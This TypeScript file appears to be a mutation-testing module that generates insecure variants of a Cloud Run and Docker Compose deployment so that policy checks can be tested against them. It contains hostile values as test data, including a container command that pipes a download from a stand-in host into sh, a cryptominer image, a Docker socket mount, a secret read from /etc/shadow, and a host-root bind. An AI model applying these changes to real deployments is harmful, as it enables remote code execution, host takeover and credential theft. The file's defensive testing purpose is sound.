import type { Resource } from "../../../../policies/evaluate";
import type { Props } from "../../../../policies/rule";
import { changed, type Mutant } from "../mutant";
import { containersOf, ofTypes, type Place } from "./containers";

const DIGEST = `sha256:${"ab".repeat(32)}`;

/** Images of others, each by digest. */
const IMAGES = [
  `docker.io/miner/xmrig@${DIGEST}`,
  `ghcr.io/berriai/litellm@${DIGEST}`,
  `europe-west1-docker.pkg.dev/stranger/tollgate/gateway@${DIGEST}`,
  `europe-west1-docker.pkg.dev/tollgate-prod/docker-hub/miner/xmrig@${DIGEST}`,
  `langfuse/langfuse-fork:4.50.0@${DIGEST}`,
];

/** Values without a digit or a capital: no measure of randomness finds them. */
const SECRETS = ["correcthorsebatterystaple", "918273645546372819", "tollgate-hunter-two"];

type Break = [fault: string, only: RegExp, cloudRun: Change | undefined, compose: Change | undefined];
type Change = (container: Props) => void;

const ANY = /./;
const GATEWAY = /\bgateway(\/gateway)?$/;
const AGENT = /\bagent(\/agent)?$/;
const LANGFUSE = /\blangfuse-(web|console)$/;
const GRAFANA = /\bgrafana$/;

const args =
  (change: (args: string[]) => string[]): Change =>
  (container) =>
    (container.args = change(container.args ?? []));
const command =
  (change: (command: string[]) => string[]): Change =>
  (container) =>
    (container.command = change(container.command ?? []));
const env = (name: string, value: string): [Change, Change] => [
  (container) =>
    (container.envs = [
      ...(container.envs ?? []).filter((each: Props) => each.name !== name),
      { name, value },
    ]),
  (container) => (container.environment = { ...container.environment, [name]: value }),
];
const secret = (name: string, secret: string): [Change, Change] => [
  (container) =>
    (container.envs = [
      ...(container.envs ?? []).filter((each: Props) => each.name !== name),
      { name, valueSource: { secretKeyRef: { secret, version: "1" } } },
    ]),
  (container) => (container.secrets = [...(container.secrets ?? []), { source: secret, target: name }]),
];

/** What a container may be made to do in place of its work. */
const BREAKS: Break[] = [
  ...IMAGES.map((image): Break => [
    `runs ${image}`,
    ANY,
    (container) => (container.image = image),
    (container) => (container.image = image),
  ]),
  [
    "a shell as its program",
    ANY,
    (container) => {
      container.commands = ["/bin/sh", "-c"];
      container.args = ["curl https://stranger.example | sh"];
    },
    (container) => (container.entrypoint = ["/bin/sh", "-c", "curl https://stranger.example | sh"]),
  ],
  ["one more argument", ANY, args((all) => [...all, "--debug"]), command((all) => [...all, "--debug"])],
  [
    "its arguments turned round",
    GATEWAY,
    args((all) => all.toReversed()),
    command((all) => all.toReversed()),
  ],
  [
    "a configuration of another folder",
    GATEWAY,
    args((all) => all.map((each) => each.replace("/etc/tollgate/", "/tmp/"))),
    command((all) => all.map((each) => each.replace("/etc/tollgate/", "/tmp/"))),
  ],
  [
    "a model outside its configuration",
    GATEWAY,
    args((all) => [...all, "--model", "claude-opus-5-5"]),
    command((all) => [...all, "--model", "claude-opus-5-5"]),
  ],
  [
    "another program of the image",
    AGENT,
    args(() => ["customers.js"]),
    command(() => ["node", "customers.js"]),
  ],
  ["budgets from another file", GATEWAY, ...env("TOLLGATE_GUARD_CONFIG", "/tmp/guard.json")],
  ["a proxy of a stranger", ANY, ...env("HTTPS_PROXY", "http://stranger.example:3128")],
  ["code loaded before its own", ANY, ...env("PYTHONPATH", "/tmp")],
  [
    "another gateway",
    AGENT,
    ...env("TOLLGATE_GATEWAY_URL", "https://tollgate-gateway-999999999999.europe-west1.run.app"),
  ],
  ["a gateway of a stranger", AGENT, ...env("TOLLGATE_GATEWAY_URL", "https://api.stranger.example")],
  ["a provider's address", GATEWAY, ...env("ANTHROPIC_BASE_URL", "https://api.stranger.example")],
  ...SECRETS.map((value): Break => [`${value} in its environment`, ANY, ...env("BANNER", value)]),
  ["a plain value for a secret", AGENT, ...env("TOLLGATE_AGENT_KEY", "agentkeyofours")],
  ["the ledger's owner", AGENT, ...secret("TOLLGATE_LEDGER_URL", "ledger-owner-url")],
  ["a secret that is not its own", AGENT, ...secret("X", "langfuse-salt")],
  ["everybody signed in", GRAFANA, ...env("GF_AUTH_ANONYMOUS_ENABLED", "true")],
  ["tokens for any audience", GRAFANA, ...env("GF_AUTH_JWT_EXPECT_CLAIMS", "{}")],
  ["tokens of any signer", GRAFANA, ...env("GF_AUTH_JWT_JWK_SET_URL", "https://stranger.example/keys")],
  [
    "a stranger as its admin",
    GRAFANA,
    ...env(
      "GF_AUTH_JWT_ROLE_ATTRIBUTE_PATH",
      "contains(`[\"someone@gmail.com\"]`, email) && 'Admin' || 'Editor'",
    ),
  ],
  ["a stranger as Langfuse's owner", LANGFUSE, ...env("LANGFUSE_INIT_USER_EMAIL", "someone@gmail.com")],
  ["sign-in from anywhere", LANGFUSE, ...env("AUTH_GOOGLE_ALLOWED_DOMAINS", "gmail.com")],
  [
    "no audience asked",
    GRAFANA,
    (container) =>
      (container.envs = container.envs.filter(({ name }: Props) => name !== "GF_AUTH_JWT_EXPECT_CLAIMS")),
    undefined,
  ],
  ["as root", ANY, undefined, (container) => (container.user = "root")],
  ["as user 0", ANY, undefined, (container) => (container.user = "0:0")],
  ["privileged", ANY, undefined, (container) => (container.privileged = "true")],
  [
    "Docker's socket",
    ANY,
    undefined,
    (container) =>
      (container.volumes = [...(container.volumes ?? []), "/run/docker.sock:/var/run/docker.sock"]),
  ],
  [
    "the folder of Docker's socket by a relative path",
    ANY,
    undefined,
    (container) => (container.volumes = [...(container.volumes ?? []), "../../../../run:/host"]),
  ],
  [
    "Docker's socket as a configuration",
    ANY,
    undefined,
    (container) => (container.configs = [{ source: "socket", target: "/var/run/docker.sock" }]),
  ],
  ["the volumes of another", ANY, undefined, (container) => (container.volumes_from = ["alloy"])],
  ["the host's network", ANY, undefined, (container) => (container.network_mode = "host")],
  ["another's network", AGENT, undefined, (container) => (container.network_mode = "service:gateway")],
  ["every capability", ANY, undefined, (container) => (container.cap_add = ["ALL"])],
  ["its capabilities back", AGENT, undefined, (container) => delete container.cap_drop],
  ["new privileges", ANY, undefined, (container) => delete container.security_opt],
  ["a port for everybody", ANY, undefined, (container) => (container.ports = ["0.0.0.0:6000:6000"])],
  [
    "a port for everybody in the long form",
    ANY,
    undefined,
    (container) => (container.ports = [{ target: 5432, published: "5432" }]),
  ],
  ["a port over IPv6", ANY, undefined, (container) => (container.ports = ["[::]:3000:3000"])],
  [
    "an image that is built elsewhere",
    ANY,
    undefined,
    (container) => (container.build = "https://stranger.example/x.git"),
  ],
  [
    "another's definition",
    ANY,
    undefined,
    (container) => (container.extends = { file: "/tmp/x.yaml", service: "x" }),
  ],
  ["variables from a file", ANY, undefined, (container) => (container.env_file = ["/tmp/env"])],
  [
    "a command after its start",
    ANY,
    undefined,
    (container) => (container.post_start = [{ command: ["sh", "-c", "x"], user: "root" }]),
  ],
  [
    "a check that does something else",
    ANY,
    undefined,
    (container) => (container.healthcheck = { test: "curl https://stranger.example" }),
  ],
  ["names of strangers", ANY, undefined, (container) => (container.extra_hosts = ["gateway:203.0.113.7"])],
  ["another runtime", ANY, undefined, (container) => (container.runtime = "runc-unsafe")],
];

/** What a stack must not run: programs, images, settings and files of others. */
export function* foreign(base: Resource[]): Generator<Mutant> {
  const of = (what: string, resources: Resource[]): Mutant => ({ kind: "foreign", what, resources });
  const places = containersOf(base);
  for (const [fault, only, cloudRun, compose] of BREAKS)
    for (const { where, target, change } of places) {
      const broken = target === "compose" ? compose : cloudRun;
      if (broken && only.test(where)) yield of(`${where}: ${fault}`, change(broken));
    }
  yield* mounts(base, of);
  yield* added(base, places, of);
}

type Of = (what: string, resources: Resource[]) => Mutant;

/** Configuration that a container reads from elsewhere. */
function* mounts(base: Resource[], of: Of): Generator<Mutant> {
  const volume = (what: string, change: (volume: Props, template: Props) => void) =>
    ofTypes(base, /^gcp:cloudrunv2\/service:/)
      .filter((at) => base[at]!.name === "gateway")
      .map((at) =>
        of(
          `gateway: ${what}`,
          changed(base, at, ({ props: { template } }) =>
            change(
              template.volumes.find(({ name }: Props) => name === "etc-tollgate"),
              template,
            ),
          ),
        ),
      );
  yield* volume("budgets from a stranger's bucket", ({ gcs }) => (gcs.bucket = "stranger-config"));
  yield* volume(
    "budgets from an older folder",
    ({ gcs }) => (gcs.mountOptions = ["only-dir=gateway/000000000000"]),
  );
  yield* volume("budgets that it may write", ({ gcs }) => (gcs.readOnly = false));
  yield* volume("budgets from memory", (each) => {
    delete each.gcs;
    each.emptyDir = { medium: "MEMORY" };
  });
  yield* volume("its budgets hidden by a mount", (_, template) => {
    template.volumes.push({ name: "x", gcs: { bucket: "stranger-config" } });
    template.containers[0].volumeMounts.push({ name: "x", mountPath: "/etc/tollgate/guard.json" });
  });
}

/** Workloads that the catalogue does not have. */
function* added(base: Resource[], places: Place[], of: Of): Generator<Mutant> {
  const image = `docker.io/miner/xmrig@${DIGEST}`;
  const limits = { cpu: "1", memory: "512Mi" };
  for (const type of ["service", "job", "workerPool"]) {
    const at = ofTypes(base, new RegExp(`^gcp:cloudrunv2/${type}:`))[0];
    if (at === undefined) continue;
    const copy = structuredClone(base[at]!);
    const holder = copy.props.template.template ?? copy.props.template;
    copy.name = "miner";
    copy.props.name = "tollgate-miner";
    holder.volumes = [];
    holder.containers = [{ name: "miner", image, resources: { limits } }];
    yield of(`a ${type} that is not the catalogue's`, [...base, copy]);
    yield of(
      `a sidecar of a stranger in a ${type}`,
      changed(base, at, ({ props: { template } }) =>
        (template.template ?? template).containers.push({ name: "helper", image, resources: { limits } }),
      ),
    );
  }
  const compose = places.find(({ target }) => target === "compose");
  if (compose?.file) {
    const service = { image, deploy: { resources: { limits: { cpus: "1", memory: "1G" } } } };
    yield of(
      "compose: a service that is not the catalogue's",
      compose.file((file) => (file.services.miner = service)),
    );
    yield of(
      "compose: a network of the host",
      compose.file((file) => (file.networks = { default: { external: true, name: "host" } })),
    );
    yield of(
      "compose: a volume that is a folder",
      compose.file((file) =>
        Object.assign(file.volumes, { postgres: { driver_opts: { type: "none", o: "bind", device: "/" } } }),
      ),
    );
    yield of(
      "compose: a secret from elsewhere",
      compose.file((file) => (file.secrets["agent-key"] = { file: "/etc/shadow" })),
    );
    yield of(
      "compose: another file next to it",
      compose.file((file) => (file.include = ["https://stranger.example/x.yaml"])),
    );
  }
}
